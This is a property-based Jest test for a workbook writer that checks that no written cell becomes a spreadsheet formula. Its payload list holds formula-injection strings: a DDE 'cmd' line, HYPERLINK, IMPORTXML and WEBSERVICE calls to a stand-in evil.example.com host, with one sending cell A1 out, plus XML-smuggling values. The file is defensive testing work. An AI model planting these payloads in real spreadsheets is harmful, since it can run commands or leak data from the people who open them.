import { expect, test } from '@jest/globals';
import { unzipSync } from 'fflate';
import fc from 'fast-check';
import { unpackTabs } from '../../../src/schedules/workbook/workbook-packed.js';
import { readTabs } from '../../../src/schedules/workbook/workbook-tabs.js';
import { writeWorkbook } from '../../../src/schedules/workbook/workbook-writer.js';
import { NASTY } from '../../support/arbitrary.js';

/** What spreadsheets take for the beginning of a formula, with the full-width twins that some of them take too. */
const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', '|', '%', ' =', "'="];
const PAYLOADS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example.com?x="&A1,"click")',
  'IMPORTXML("http://evil.example.com","//a")',
  'WEBSERVICE("http://evil.example.com")',
  '1+1',
  'SUM(A1:A9)',
];

const hostile = fc.oneof(
  fc.tuple(fc.constantFrom(...BEGINNINGS), fc.constantFrom(...PAYLOADS)).map(([begin, rest]) => begin + rest),
  fc.tuple(fc.constantFrom(...BEGINNINGS), fc.string()).map(([begin, rest]) => begin + rest),
  fc.constantFrom(...NASTY, '</t></si><f>1+1</f>', '"/><f>1+1</f>', '&#61;1+1', '_x003D_1+1'),
);

/** As people see it: the reader trims, composes, and leaves out what no cell can hold. */
const seen = (text: string): string =>
  text
    // eslint-disable-next-line no-control-regex -- these are meant
    .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|\p{Cs}/gu, '')
    .normalize('NFC')
    .trim();

test('no cell of a workbook that is written is a formula, and every one says what it was given', async () => {
  const property = fc.asyncProperty(
    fc.array(hostile, { minLength: 1, maxLength: 6 }),
    hostile,
    async (texts, help) => {
      const columns = texts.map((text) => ({ header: text, help, allowed: { choices: texts } }));
      const file = await writeWorkbook([{ name: 'T', columns, rows: [texts] }]);
      for (const [path, bytes] of Object.entries(unzipSync(file))) {
        if (!path.startsWith('xl/worksheets/')) continue;
        const sheet = Buffer.from(bytes).toString('utf8');
        expect(sheet).not.toMatch(/<f[\s>/]/);
        // A text is a place in the table of texts: what stands there is never looked at as a formula.
        for (const [cell] of sheet.matchAll(/<c [^>]*>/g)) expect(cell).toContain('t="s"');
        // The rules of cells have formulas, of our own: a list in quotes, a range, or a number.
        for (const [, formula = ''] of sheet.matchAll(/<formula\d>([^<]*)</g)) {
          expect(formula).toMatch(/^(&quot;|'Lists'!|OFFSET\('|-?\d+$)/);
        }
      }
      const [tab] = unpackTabs(await readTabs(file));
      const written = texts.map(seen).filter((text) => text !== '');
      for (const row of tab?.rows ?? []) expect(row.cells.map(({ text }) => text)).toEqual(written);
    },
  );
  await fc.assert(property, { numRuns: 60 });
});
